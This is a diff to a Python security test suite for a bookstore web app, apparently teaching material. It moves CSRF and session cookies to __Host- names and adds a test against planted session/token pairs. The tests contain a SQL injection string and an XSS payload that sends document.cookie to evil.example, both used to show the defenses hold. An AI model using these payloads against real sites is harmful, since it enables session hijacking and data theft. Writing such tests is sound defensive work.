@@ -11,6 +11,7 @@ from bookstore.security.vulnerable_examples import find_user_safe, find_user_vul
 
 INJECTION = "' OR 1=1 --"
 OURS = {"Origin": "https://testserver"}  # a browser names the page's origin on every POST
+CSRF, SESSION = "__Host-csrf_token", "__Host-session"  # the cookies' names over HTTPS
 
 
 # --8<-- [start:password_tests]
@@ -113,7 +114,7 @@ def test_injection_through_the_api_is_harmless(client, log_in):
 # --8<-- [start:xss_test]
 def test_reviews_are_escaped_in_html(client):
     page = client.get("/books/1")
-    token = page.cookies["csrf_token"]
+    token = page.cookies[CSRF]
     attack = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
     posted = client.post(
         "/books/1/reviews",
@@ -143,27 +144,41 @@ def test_form_post_without_csrf_token_is_403(client):
 
 
 def test_form_post_with_someone_elses_token_is_403(client):
-    token = client.get("/books/1").cookies["csrf_token"]
+    token = client.get("/books/1").cookies[CSRF]
     client.cookies.clear()  # the victim's browser does not hold the attacker's cookie
     client.get("/books/2")  # ... but has its own
     assert post_review(client, token).status_code == 403
 
 
 def test_a_token_works_once_and_for_an_hour(client, clock):
-    token = client.get("/books/1").cookies["csrf_token"]
+    token = client.get("/books/1").cookies[CSRF]
     assert post_review(client, token).status_code == 303
     assert post_review(client, token).status_code == 403  # a captured pair cannot be replayed
 
-    token = client.get("/books/1").cookies["csrf_token"]
+    token = client.get("/books/1").cookies[CSRF]
     clock.advance(3601)
     assert post_review(client, token).status_code == 403  # too old
 
 
 def test_a_post_from_another_origin_is_403_even_with_a_valid_token(client):
-    token = client.get("/books/1").cookies["csrf_token"]
+    token = client.get("/books/1").cookies[CSRF]
     assert post_review(client, token, {"Origin": "https://evil.example"}).status_code == 403
     assert post_review(client, token, {}).status_code == 403  # the form needs an Origin
     assert post_review(client, token).status_code == 303  # the token was not used up
+
+
+def test_a_planted_session_and_token_pair_is_ignored(client, settings, clock):
+    # Someone who can write cookies for the domain plants his own session id together
+    # with a real token issued for it: a pair that agrees with itself. Browsers refuse
+    # __Host- cookies from a subdomain or plain HTTP, and the server reads no other names.
+    session = "a" * 43
+    token = issue_csrf_token(settings.secret_key, session, clock())
+    client.cookies.set("session", session)
+    client.cookies.set("csrf_token", token)
+    assert post_review(client, token).status_code == 403
+
+
+# --8<-- [end:csrf_test]
 
 
 def test_a_planted_token_from_another_session_is_refused(settings, clock):
@@ -178,9 +193,6 @@ def test_a_planted_token_from_another_session_is_refused(settings, clock):
     )
 
 
-# --8<-- [end:csrf_test]
-
-
 def test_csrf_token_needs_our_signature(settings, clock):
     token = issue_csrf_token(settings.secret_key, "s", clock())
     assert csrf_token_is_valid(settings.secret_key, token, token, "s", clock())
@@ -191,19 +203,22 @@ def test_csrf_token_needs_our_signature(settings, clock):
 
 
 def test_a_session_cookie_we_did_not_make_is_replaced(client):
-    client.cookies.set("session", "chosen-by-the-attacker")
+    client.cookies.set(SESSION, "chosen-by-the-attacker")
     page = client.get("/books/1")
-    assert page.cookies["session"] != "chosen-by-the-attacker"
+    assert page.cookies[SESSION] != "chosen-by-the-attacker"
 
 
 def test_csrf_cookie_is_secure_httponly_strict(client):
-    cookie = client.get("/books/1").headers["set-cookie"]
-    assert re.search(r"(?i)\bsecure\b", cookie) and "HttpOnly" in cookie
-    assert "samesite=strict" in cookie.lower()
+    cookies = client.get("/books/1").headers.get_list("set-cookie")
+    assert sorted(c.split("=")[0] for c in cookies) == [CSRF, SESSION]
+    for cookie in cookies:  # what a __Host- cookie must have, or the browser drops it
+        assert re.search(r"(?i)\bsecure\b", cookie) and "HttpOnly" in cookie
+        assert "samesite=strict" in cookie.lower() and "Path=/" in cookie
+        assert "domain=" not in cookie.lower()
 
 
 def test_review_of_a_missing_book_is_404(client):
-    token = client.get("/books/1").cookies["csrf_token"]
+    token = client.get("/books/1").cookies[CSRF]
     response = client.post(
         "/books/999/reviews",
         data={"author_name": "x", "body": "y", "csrf_token": token},
